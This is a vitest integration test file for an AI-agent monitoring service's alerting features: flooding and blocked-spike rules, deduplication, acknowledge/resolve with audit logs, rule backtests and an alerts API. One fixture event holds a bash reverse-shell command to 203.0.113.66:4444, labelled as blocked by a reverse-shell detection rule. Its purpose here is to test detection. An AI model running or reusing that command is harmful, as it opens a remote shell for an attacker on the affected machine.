// Alerts end to end against PostgreSQL: evaluation inside ingest, deduplication under
// concurrency, re-sent data, acknowledge/resolve with audit, rules CRUD and backtest,
// and the read API.
import { randomUUID } from "node:crypto";
import { describe, expect, it } from "vitest";
import * as alertRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/route";
import * as acknowledgeRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/acknowledge/route";
import * as resolveRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/[alertId]/resolve/route";
import * as alertsRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alerts/route";
import * as ruleRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/[ruleId]/route";
import * as backtestRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/backtest/route";
import * as rulesRoute from "@/app/api/orgs/[orgId]/projects/[projectId]/alert-rules/route";
import * as v1Alerts from "@/app/api/v1/alerts/route";
import * as conversationsRoute from "@/app/api/v1/conversations/route";
import * as eventsRoute from "@/app/api/v1/events/route";
import { toEvaluableRule } from "@/lib/alerts/on-ingest";
import { raiseAlerts } from "@/lib/alerts/raise";
import type { EvidenceRef } from "@/lib/alerts/evaluators/facts";
import type { RuleRow } from "@/lib/alerts/enabled-rules-sql";
import { db } from "@/lib/db/client";
import { withTransaction } from "@/lib/db/sql";
import { fixtureJson } from "@/lib/ingest/adapters/fixtures/load";
import { addMemberWithRole, call, createTenantWithKey, sessionCookie } from "@/tests/fixtures";
import { useMigratedDatabase } from "@/tests/test-database";

useMigratedDatabase();


// A real Magentic-One run (Who&When hand-crafted 47) whose WebSurfer then floods the chat
// with page dumps, 0.7 s apart: the default flooding rule (20 messages in 60 s) must fire.
const magentic = (fixtureJson("who_and_when/hand-crafted-47.json") as { history: { content: string; role: string }[] }).history;
function floodingTranscript(extra = 0) {
  const start = Date.parse("2026-11-20T09:00:00Z");
  const opening = magentic.slice(0, 10).map((m, i) => ({
    sender: m.role.split(" ")[0]!.replace(/^human$/, "user"),
    content: m.content,
    created_at: new Date(start + i * 20_000).toISOString(),
  }));
  // Each dump is a different real message of the run, so this is flooding, not repetition.
  const flood = Array.from({ length: 30 + extra }, (_, i) => ({
    sender: "WebSurfer",
    content: `(result page ${i + 1})\n${magentic[(10 + i) % magentic.length]!.content.slice(0, 400)}`,
    created_at: new Date(start + 300_000 + i * 700).toISOString(),
  }));
  return { messages: [...opening, ...flood] };
}
const postConversation = (secret: string, body: unknown) => call(conversationsRoute.POST, "POST", "/api/v1/conversations", { bearer: secret, json: body });

async function alertsOf(projectId: string, ruleType?: "quota") {
  return db().alert.findMany({ where: { projectId, ...(ruleType ? { ruleType } : {}) }, orderBy: { createdAt: "asc" } });
}

describe("evaluation on ingest", () => {
  it("a new project starts with the default rules", async () => {
    const t = await createTenantWithKey("defaults");
    const res = await call(rulesRoute.GET, "GET", "/r", { params: t.params, cookie: t.cookie });
    expect(res.status).toBe(200);
    expect(res.body.rules.map((r: { type: string; isDefault: boolean }) => `${r.type}:${r.isDefault}`)).toEqual([
      "flooding:true",
      "repetition:true",
      "blocked_spike:true",
      "quota:true",
      "quota:true",
    ]);
  });

  it("raises one flooding alert; re-sending the transcript stores nothing and changes nothing; a longer version updates the same alert", async () => {
    const t = await createTenantWithKey("flood-once");
    const first = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript() });
    expect(first.status).toBe(200);
    expect(first.body.stored).toBe(40);
    const [alert, ...others] = await alertsOf(t.project.id);
    expect(others).toEqual([]);
    expect(alert).toMatchObject({ ruleType: "flooding", status: "open", count: 1, agentName: "WebSurfer", severity: "high" });
    expect((alert!.measured as { messagesInWindow: number }).messagesInWindow).toBe(30);
    expect((alert!.evidence as { type: string; seq: number }[]).map((e) => e.seq)).toEqual(Array.from({ length: 30 }, (_, i) => 10 + i));

    const again = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript() });
    expect(again.body).toMatchObject({ stored: 0, already_stored: 40 });
    const afterResend = await alertsOf(t.project.id);
    expect(afterResend).toHaveLength(1);
    expect(afterResend[0]).toMatchObject({ count: 1, lastSeenAt: alert!.lastSeenAt, updatedAt: alert!.updatedAt });

    const longer = await postConversation(t.secret, { conversation_id: "research-run-47", transcript: floodingTranscript(5) });
    expect(longer.body.stored).toBe(5);
    const afterLonger = await alertsOf(t.project.id);
    expect(afterLonger).toHaveLength(1);
    expect(afterLonger[0]!.count).toBe(2);
    expect((afterLonger[0]!.evidence as { seq: number }[]).at(-1)?.seq).toBe(44);
  });

  it("four clients sending the same flooding conversation at once open exactly one alert", async () => {
    const t = await createTenantWithKey("flood-race");
    const results = await Promise.all(Array.from({ length: 4 }, () => postConversation(t.secret, { conversation_id: "race-run", transcript: floodingTranscript() })));
    expect(results.map((r) => r.status)).toEqual([200, 200, 200, 200]);
    expect(results.reduce((sum, r) => sum + r.body.stored, 0)).toBe(40);
    const alerts = await alertsOf(t.project.id);
    expect(alerts).toHaveLength(1);
    expect(alerts[0]!.count).toBe(1);
  });

  it("four clients flooding four different conversations of one agent at once open one alert per conversation", async () => {
    const t = await createTenantWithKey("flood-many");
    await Promise.all(Array.from({ length: 4 }, (_, i) => postConversation(t.secret, { conversation_id: `run-${i}`, transcript: floodingTranscript() })));
    const alerts = await alertsOf(t.project.id);
    expect(alerts.map((a) => a.subjectKey).sort()).toHaveLength(4);
    expect(new Set(alerts.map((a) => a.conversationId)).size).toBe(4);
  });

  it("a blocked spike fires once; retried batches (duplicates) neither fire nor bump", async () => {
    const t = await createTenantWithKey("spike");
    const batch = Array.from({ length: 12 }, (_, i) => ({
      id: randomUUID(),
      agent_id: i % 2 ? "coder" : "executor",
      direction: "internal",
      verdict: "blocked",
      risk_score: 0.97,
      findings: [{ category: "code_execution", rule: "code_execution.reverse_shell.bash", severity: "critical", score: 0.97, span: { start: 0, end: 10 }, explanation: "reverse shell" }],
      text: "bash -i >& /dev/tcp/203.0.113.66/4444 0>&1",
      occurred_at: new Date(Date.parse("2026-11-20T10:00:00Z") + i * 10_000).toISOString(),
    }));
    const first = await call(eventsRoute.POST, "POST", "/api/v1/events", { bearer: t.secret, json: { events: batch } });
    expect(first.body.stored).toBe(12);
    const alerts = await alertsOf(t.project.id);
    expect(alerts.map((a) => [a.ruleType, a.count, (a.measured as { blockedInWindow: number }).blockedInWindow])).toEqual([["blocked_spike", 1, 12]]);
    await call(eventsRoute.POST, "POST", "/api/v1/events", { bearer: t.secret, json: { events: batch } });
    expect((await alertsOf(t.project.id)).map((a) => a.count)).toEqual([1]);
  });

  // A long spike: each later batch reads only the nearest blocked events (a bounded slice),
  // not every one of the window, and says that its count is a lower bound.
  const blockedBatch = (n: number, at: (i: number) => number, agent: (i: number) => string = () => "executor") =>
    Array.from({ length: n }, (_, i) => ({
      id: randomUUID(),
      agent_id: agent(i),
      direction: "internal",
      verdict: "blocked",
      risk_score: 0.97,
      findings: [{ category: "code_execution", rule: "code_execution.reverse_shell.bash", severity: "critical", score: 0.97, span: { start: 0, end: 10 }, explanation: "reverse shell" }],
      text_sha256: "b".repeat(64),
      text_length: 42,
      occurred_at: new Date(at(i)).toISOString(),
    }));
  const postBatch = (secret: string, events: unknown[]) => call(eventsRoute.POST, "POST", "/api/v1/events", { bearer: secret, json: { events } });

  it("during a long spike a batch reads a bounded slice of the window and reports its count as a lower bound", async () => {
    const t = await createTenantWithKey("long-spike");
    const start = Date.parse("2026-11-20T10:00:00Z");
    // 300 blocked events within one minute: the default rule (10 in 300 s) opens its alert on them.
    expect((await postBatch(t.secret, blockedBatch(300, (i) => start + i * 200))).body.stored).toBe(300);
    const [opened] = await alertsOf(t.project.id);
    expect(opened!.measured).toMatchObject({ blockedInWindow: 300 });
    expect(opened!.title).toBe("300 blocked events within 300 s");
    // One more, a minute later: the slice is the rule's 10 plus the 50 an alert keeps as evidence.
    expect((await postBatch(t.secret, blockedBatch(1, () => start + 120_000))).body.stored).toBe(1);
    const [updated] = await alertsOf(t.project.id);
    expect(updated!.count).toBe(2);
    expect(updated!.measured).toMatchObject({ blockedInWindow: 61, blockedInWindowBound: "at_least" });
    expect(updated!.title).toBe("at least 61 blocked events within 300 s");
  });

  it("an alert keeps the newest 50 distinct evidence references, whether a match brings fewer or 50 of them", async () => {
    const t = await createTenantWithKey("evidence");
    const rule = (await db().alertRule.findFirst({ where: { projectId: t.project.id, type: "blocked_spike" } }))!;
    const evaluable = toEvaluableRule(rule as unknown as RuleRow)!;
    const ref = (n: number): EvidenceRef => ({ type: "event", id: `e-${n}`, agent: "executor", verdict: "blocked", conversationRef: null, at: new Date(Date.UTC(2026, 10, 20, 10, 0, n)).toISOString() });
    const raise = (ids: number[]) =>
      withTransaction((sql) =>
        raiseAlerts(sql, { organizationId: t.organization.id, projectId: t.project.id }, [
          { rule: evaluable, match: { subjectKey: "project", agentName: null, conversationId: null, title: "spike", measured: {}, evidence: ids.map(ref), firstSeenAt: new Date(), lastSeenAt: new Date() } },
        ], false),
      );
    const kept = async () => ((await alertsOf(t.project.id))[0]!.evidence as { id: string }[]).map((e) => e.id);
    const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, i) => from + i);
    const names = (ids: number[]) => ids.map((n) => `e-${n}`);

    // Opened with repeats: each reference once, at its last place.
    await raise([1, 2, 3, 2, 4]);
    expect(await kept()).toEqual(names([1, 3, 2, 4]));
    // Fewer than 50 new ones: merged with the kept ones, a repeated one moves to its new place.
    await raise([...range(5, 30), 3]);
    expect(await kept()).toEqual(names([1, 2, 4, ...range(5, 30), 3]));
    // More than 50 once repeats are dropped: the newest 50 alone.
    await raise([...range(20, 80), 25]);
    expect(await kept()).toEqual(names([...range(32, 80), 25]));
    // Exactly 50 new distinct ones: they replace the rest.
    await raise(range(100, 149));
    expect(await kept()).toEqual(names(range(100, 149)));
    // A few more: the oldest kept ones make room.
    await raise([150, 100, 151]);
    expect(await kept()).toEqual(names([...range(103, 149), 150, 100, 151]));
  });

  it("an alert of an event batch queues its webhook notice in the batch's transaction where the project has a webhook", async () => {
    const t = await createTenantWithKey("event-notices");
    await db().webhook.create({ data: { organizationId: t.organization.id, projectId: t.project.id, url: "https://hooks.example.com/warden", secret: "whsec_test_event_notices" } });
    const start = Date.parse("2026-11-20T10:00:00Z");
    expect((await postBatch(t.secret, blockedBatch(12, (i) => start + i * 1_000))).body.stored).toBe(12);
    const [alert] = await alertsOf(t.project.id);
    expect(alert!.ruleType).toBe("blocked_spike");
    const deliveries = await db().webhookDelivery.findMany({ where: { alertId: alert!.id }, select: { event: true } });
    expect(deliveries.map((d) => d.event)).toEqual(["alert.opened"]);
  });

  it("a spike split over concurrent batches, none of which reaches the threshold alone, still opens the alert", async () => {
    const t = await createTenantWithKey("split-spike");
    // A paid tier: its usage row is charged last, so nothing else serialises the batches.
    await db().organization.update({ where: { id: t.organization.id }, data: { tier: "team" } });
    const start = Date.parse("2026-11-20T10:00:00Z");
    // 4 batches of 3 blocked events from 4 different agents, all at once: 12 within a minute,
    // the default rule wants 10 in 300 s. Whichever batch is evaluated last must see the others.
    const answers = await Promise.all(
      Array.from({ length: 4 }, (_, b) => postBatch(t.secret, blockedBatch(3, (i) => start + b * 1_000 + i * 100, () => `agent-${b}`))),
    );
    expect(answers.map((a) => a.body.stored)).toEqual(Array(4).fill(3));
    const alerts = await alertsOf(t.project.id);
    expect(alerts.map((a) => a.ruleType)).toEqual(["blocked_spike"]);
    expect((alerts[0]!.measured as { blockedInWindow: number }).blockedInWindow).toBeGreaterThanOrEqual(10);
  });

  it("a per-agent spike rule reads each agent's own slice, so a noisy agent cannot hide a quiet one's spike", async () => {
    const t = await createTenantWithKey("per-agent-spike");
    await db().alertRule.updateMany({ where: { projectId: t.project.id }, data: { enabled: false } });
    await db().alertRule.create({
      data: { organizationId: t.organization.id, projectId: t.project.id, name: "5 blocked per agent in 10 min", type: "blocked_spike", params: { minBlocked: 5, windowSeconds: 600, per: "agent" }, severity: "high" },
    });
    const start = Date.parse("2026-11-20T10:00:00Z");
    // 4 from the coder (below the threshold), then 100 newer ones (more than a slice) from a noisy web surfer.
    await postBatch(t.secret, blockedBatch(4, (i) => start + i * 1_000, () => "coder"));
    await postBatch(t.secret, blockedBatch(100, (i) => start + 10_000 + i * 100, () => "web_surfer"));
    expect((await alertsOf(t.project.id)).map((a) => a.subjectKey)).toEqual(["agent:web_surfer"]);
    // The coder's fifth: its four earlier ones are older than all 100 of the web surfer's.
    await postBatch(t.secret, blockedBatch(1, () => start + 60_000, () => "coder"));
    const coder = (await alertsOf(t.project.id)).find((a) => a.subjectKey === "agent:coder");
    expect(coder?.measured).toMatchObject({ blockedInWindow: 5 });
    expect(coder?.measured).not.toHaveProperty("blockedInWindowBound");
  });

  it("the quota rules fire once each as a Free organization's usage crosses 80% and 100%", async () => {
    const t = await createTenantWithKey("quota");
    const month = new Date(Date.UTC(new Date().getUTCFullYear(), new Date().getUTCMonth(), 1));
    await db().usageMonth.create({ data: { organizationId: t.organization.id, month, used: 7_990 } });
    const send = (id: string, n: number) =>
      postConversation(t.secret, { conversation_id: id, transcript: { messages: Array.from({ length: n }, (_, i) => ({ sender: i % 2 ? "coder" : "planner", content: `Step ${i}: run the tests.` })) } });
    await send("q-1", 5);
    expect(await alertsOf(t.project.id, "quota")).toEqual([]);
    await send("q-2", 10);
    expect((await alertsOf(t.project.id, "quota")).map((a) => a.title)).toEqual([expect.stringContaining("80%")]);
    await send("q-3", 10);
    expect(await alertsOf(t.project.id, "quota")).toHaveLength(1);
    await send("q-4", 2_000);
    const titles = (await alertsOf(t.project.id, "quota")).map((a) => a.title);
    expect(titles).toEqual([expect.stringContaining("80%"), expect.stringContaining("100%")]);
  });

  // An event batch's last statement carries its COMMIT. Free knows its usage before it; a paid
  // batch charges usage in that statement, and when the charge crosses a quota rule's share
  // the batch runs again, committing on its own, so that the alert is raised.
  it.each(["free", "team"] as const)("event batches raise each quota alert once as a %s organization's usage crosses 80%%", async (tier) => {
    const t = await createTenantWithKey(`quota-events-${tier}`);
    await db().organization.update({ where: { id: t.organization.id }, data: { tier } });
    const quota = tier === "free" ? 10_000 : 1_000_000;
    const month = new Date(Date.UTC(new Date().getUTCFullYear(), new Date().getUTCMonth(), 1));
    await db().usageMonth.create({ data: { organizationId: t.organization.id, month, used: quota * 0.8 - 10 } });
    const allowed = (n: number) => blockedBatch(n, () => Date.now()).map((e) => ({ ...e, verdict: "allowed", risk_score: 0.02, findings: [] }));
    expect((await postBatch(t.secret, allowed(5))).body.stored).toBe(5);
    expect(await alertsOf(t.project.id, "quota")).toEqual([]);
    const crossing = await postBatch(t.secret, allowed(10));
    expect(crossing.body.results.map((r: { status: string }) => r.status)).toEqual(Array(10).fill("stored"));
    expect((await alertsOf(t.project.id, "quota")).map((a) => a.title)).toEqual([expect.stringContaining("80%")]);
    expect((await postBatch(t.secret, allowed(10))).body.stored).toBe(10);
    expect(await alertsOf(t.project.id, "quota")).toHaveLength(1);
    // The aborted first run of the crossing batch left nothing behind.
    expect(await db().scanEvent.count({ where: { projectId: t.project.id } })).toBe(25);
    expect((await db().usageMonth.findFirstOrThrow({ where: { organizationId: t.organization.id } })).used).toBe(quota * 0.8 + 15);
  });

  it("a disabled rule does not fire", async () => {
    const t = await createTenantWithKey("disabled");
    await db().alertRule.updateMany({ where: { projectId: t.project.id }, data: { enabled: false } });
    await postConversation(t.secret, { conversation_id: "quiet", transcript: floodingTranscript() });
    expect(await alertsOf(t.project.id)).toEqual([]);
  });
});

describe("the demo data set", () => {
  it("gets the default rules, and its flooding and echo-loop incidents raise alerts while it loads (and nothing else does)", async () => {
    const { createUser } = await import("@/tests/fixtures");
    const { seedDemo } = await import("@/lib/demo/seed");
    const owner = await createUser(`demo-owner-${randomUUID().slice(0, 6)}@demo.example`);
    await seedDemo(owner.id);
    const project = await db().project.findFirstOrThrow({ where: { organization: { name: "Warden demo" } }, select: { id: true } });
    expect(await db().alertRule.count({ where: { projectId: project.id, isDefault: true } })).toBe(5);
    const alerts = await db().alert.findMany({ where: { projectId: project.id }, include: { conversation: { select: { externalId: true } } } });
    const raised = alerts.map((a) => `${a.ruleType}:${a.conversation?.externalId}:${a.agentName ?? "-"}`).sort();
    expect(raised).toContain("flooding:demo-incident-flooding:web_surfer");
    expect(raised).toContain("repetition:demo-incident-echo-loop:-");
    // The 400 ordinary work conversations raise nothing.
    expect(raised.filter((r) => r.includes("demo-work-"))).toEqual([]);
  });
});

describe("acknowledge and resolve", () => {
  it("owners acknowledge and resolve with a note (audit-logged); viewers cannot; a resolved subject opens a new alert", async () => {
    const t = await createTenantWithKey("respond");
    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript() });
    const feed = await call(alertsRoute.GET, "GET", "/a?status=open", { params: t.params, cookie: t.cookie });
    expect(feed.status).toBe(200);
    expect(feed.body.counts).toEqual({ open: 1, acknowledged: 0, resolved: 0 });
    const alertId = feed.body.alerts[0].id as string;
    const params = { ...t.params, alertId };

    const detail = await call(alertRoute.GET, "GET", "/a/x", { params, cookie: t.cookie });
    expect(detail.status).toBe(200);
    expect(detail.body.evidence).toHaveLength(30);
    expect(detail.body.evidence[0]).toMatchObject({ conversationExternalId: "incident", ref: { type: "message", seq: 10, sender: "WebSurfer" } });
    expect(detail.body.evidence[0].preview).toContain("result page 1");
    const conversation = await db().conversation.findFirstOrThrow({ where: { projectId: t.project.id, externalId: "incident" } });
    expect(detail.body.evidence[0]).toMatchObject({ conversationId: conversation.id, kind: "text", categories: [] });
    expect(detail.body.deliveries).toEqual([]);

    const viewer = await addMemberWithRole(t.organization.id, "viewer", "respond");
    const refused = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: await sessionCookie(viewer.id), json: { note: "mine" } });
    expect(refused.status).toBe(403);

    const ack = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: t.cookie, json: { note: "Looking into the web surfer loop." } });
    expect(ack.status).toBe(200);
    expect(ack.body.alert.status).toBe("acknowledged");
    const twice = await call(acknowledgeRoute.POST, "POST", "/ack", { params, cookie: t.cookie, json: { note: "again" } });
    expect(twice.status).toBe(409);

    // Still unresolved: more flooding updates the acknowledged alert.
    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript(25) });
    expect((await alertsOf(t.project.id)).map((a) => [a.status, a.count])).toEqual([["acknowledged", 2]]);

    const resolved = await call(resolveRoute.POST, "POST", "/res", { params, cookie: t.cookie, json: { note: "Capped the surfer's page fetches." } });
    expect(resolved.body.alert.status).toBe("resolved");
    const row = await db().alert.findUniqueOrThrow({ where: { id: alertId } });
    expect(row).toMatchObject({ dedupKey: null, acknowledgeNote: "Looking into the web surfer loop.", resolveNote: "Capped the surfer's page fetches.", acknowledgedBy: t.owner.email });
    const audit = await db().auditLogEntry.findMany({ where: { organizationId: t.organization.id, targetId: alertId }, select: { action: true, metadata: true } });
    expect(audit.map((a) => a.action)).toEqual(["alert.acknowledged", "alert.resolved"]);

    await postConversation(t.secret, { conversation_id: "incident", transcript: floodingTranscript(50) });
    const all = await alertsOf(t.project.id);
    expect(all.map((a) => a.status)).toEqual(["resolved", "open"]);
  });
});

describe("webhook notices", () => {
  it("queues alert.opened when an alert opens, at most one notice a minute for count bumps, and one per acknowledge", async () => {
    const t = await createTenantWithKey("notices");
    await db().webhook.create({ data: { organizationId: t.organization.id, projectId: t.project.id, url: "https://hooks.example.com/warden", secret: "whsec_test_notices" } });
    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript() });
    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(5) });
    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(10) });
    const [alert] = await alertsOf(t.project.id);
    expect(alert!.count).toBe(3);
    const events = async () => (await db().webhookDelivery.findMany({ where: { alertId: alert!.id }, orderBy: { createdAt: "asc" }, select: { event: true } })).map((d) => d.event);
    expect(await events()).toEqual(["alert.opened"]);

    // A minute later the next bump is announced once.
    await db().webhookDelivery.updateMany({ where: { alertId: alert!.id }, data: { createdAt: new Date(Date.now() - 61_000) } });
    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(15) });
    await postConversation(t.secret, { conversation_id: "noisy", transcript: floodingTranscript(20) });
    expect(await events()).toEqual(["alert.opened", "alert.updated"]);

    const ack = await call(acknowledgeRoute.POST, "POST", "/ack", { params: { ...t.params, alertId: alert!.id }, cookie: t.cookie, json: { note: "seen" } });
    expect(ack.status).toBe(200);
    expect(await events()).toEqual(["alert.opened", "alert.updated", "alert.acknowledged"]);
  });
});

describe("rules", () => {
  it("owners create, edit, disable and delete rules (audit-logged); viewers can only read; bad params are a 422 naming the field", async () => {
    const t = await createTenantWithKey("rules");
    const viewer = await addMemberWithRole(t.organization.id, "viewer", "rules");
    const viewerCookie = await sessionCookie(viewer.id);
    const body = { name: "Long tool output", type: "message_size", params: { maxChars: 20_000 }, severity: "medium", agentPattern: "Computer*" };
    expect((await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: viewerCookie, json: body })).status).toBe(403);

    const bad = await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: t.cookie, json: { ...body, params: { maxChars: 0 } } });
    expect(bad.status).toBe(422);
    expect(bad.body.error.field).toBe("params.maxChars");

    const created = await call(rulesRoute.POST, "POST", "/r", { params: t.params, cookie: t.cookie, json: body });
    expect(created.status).toBe(201);
    const ruleParams = { ...t.params, ruleId: created.body.rule.id };
    const badEdit = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { params: { maxChars: "big" } } });
    expect(badEdit.status).toBe(422);
    expect(badEdit.body.error.field).toBe("params.maxChars");
    expect((await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: viewerCookie, json: { enabled: false } })).status).toBe(403);

    const edited = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { params: { maxChars: 500 } } });
    expect(edited.body.rule).toMatchObject({ params: { maxChars: 500 }, agentPattern: "Computer*", enabled: true });
    const disabled = await call(ruleRoute.PATCH, "PATCH", "/r/x", { params: ruleParams, cookie: t.cookie, json: { enabled: false } });
    expect(disabled.body.rule.enabled).toBe(false);
    expect((await call(ruleRoute.DELETE, "DELETE", "/r/x", { params: ruleParams, cookie: viewerCookie })).status).toBe(403);
    expect((await call(ruleRoute.DELETE, "DELETE", "/r/x", { params: ruleParams, cookie: t.cookie })).status).toBe(200);
    expect((await call(ruleRoute.GET, "GET", "/r/x", { params: ruleParams, cookie: t.cookie })).status).toBe(404);
    const audit = await db().auditLogEntry.findMany({ where: { organizationId: t.organization.id, targetType: "alert_rule" }, orderBy: { seq: "asc" }, select: { action: true } });
    expect(audit.map((a) => a.action)).toEqual(["alert_rule.created", "alert_rule.updated", "alert_rule.disabled", "alert_rule.deleted"]);
  });

  it("backtest counts the alerts a rule would have raised in the last 7 days, per conversation, and writes nothing", async () => {
    const t = await createTenantWithKey("backtest");
    const now = Date.now();
    const recent = (transcript: ReturnType<typeof floodingTranscript>) => ({
      messages: transcript.messages.map((m, i) => ({ ...m, created_at: new Date(now - 3_600_000 + i * 700).toISOString() })),
    });
    await postConversation(t.secret, { conversation_id: "bt-flood", transcript: recent(floodingTranscript()) });
    await postConversation(t.secret, { conversation_id: "bt-ordinary", transcript: { messages: magentic.slice(0, 12).map((m, i) => ({ sender: m.role.split(" ")[0], content: m.content, created_at: new Date(now - 7_200_000 + i * 30_000).toISOString() })) } });
    const before = await db().alert.count();
    const audits = await db().auditLogEntry.count();
    const res = await call(backtestRoute.POST, "POST", "/bt", {
      params: t.params,
      cookie: t.cookie,
      json: { name: "Tight flooding", type: "flooding", params: { maxMessages: 10, windowSeconds: 30 }, severity: "low" },
    });
    expect(res.status).toBe(200);
    expect(res.body).toMatchObject({ alerts: 1, agents: ["WebSurfer"], truncated: false });
    expect(res.body.subjects[0]).toMatchObject({ conversationExternalId: "bt-flood", agentName: "WebSurfer" });
    expect(res.body.scanned.messages).toBe(52);
    expect(await db().alert.count()).toBe(before);
    expect(await db().auditLogEntry.count()).toBe(audits);
  });
});

describe("GET /api/v1/alerts", () => {
  it("lists the project's alerts for a read key, filtered by status and time, cursor-paginated, with evidence references", async () => {
    const t = await createTenantWithKey("read-api");
    for (let i = 0; i < 3; i++) await postConversation(t.secret, { conversation_id: `siem-${i}`, transcript: floodingTranscript() });
    const page1 = await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=open&limit=2", { bearer: t.secret });
    expect(page1.status).toBe(200);
    expect(page1.body.alerts).toHaveLength(2);
    expect(page1.body.alerts[0]).toMatchObject({ status: "open", rule: { type: "flooding" }, subject: { agent_id: "WebSurfer" }, count: 1 });
    expect(page1.body.alerts[0].evidence[0]).toMatchObject({ type: "message", sender: "WebSurfer", conversation_id: expect.stringMatching(/^siem-/) });
    const page2 = await call(v1Alerts.GET, "GET", `/api/v1/alerts?status=open&limit=2&cursor=${page1.body.next_cursor}`, { bearer: t.secret });
    expect(page2.body.alerts).toHaveLength(1);
    expect(page2.body.next_cursor).toBeNull();
    const ids = [...page1.body.alerts, ...page2.body.alerts].map((a: { id: string }) => a.id);
    expect(new Set(ids).size).toBe(3);
    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=resolved", { bearer: t.secret })).body.alerts).toEqual([]);
    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?to=2026-11-20T09:00:00Z", { bearer: t.secret })).body.alerts).toEqual([]);
    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?from=2026-11-20T09:00:00Z", { bearer: t.secret })).body.alerts).toHaveLength(3);
    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts?status=closed", { bearer: t.secret })).status).toBe(422);

    const ingestOnly = await createTenantWithKey("read-api-ingest", ["ingest"]);
    expect((await call(v1Alerts.GET, "GET", "/api/v1/alerts", { bearer: ingestOnly.secret })).status).toBe(403);
    // Its last character changed (to another one: replacing it with a fixed one kept the key valid once in 62 runs).
    const tampered = ingestOnly.secret.slice(0, -1) + (ingestOnly.secret.endsWith("x") ? "y" : "x");
    const other = await call(v1Alerts.GET, "GET", "/api/v1/alerts", { bearer: tampered });
    expect(other.status).toBe(401);
  });
});
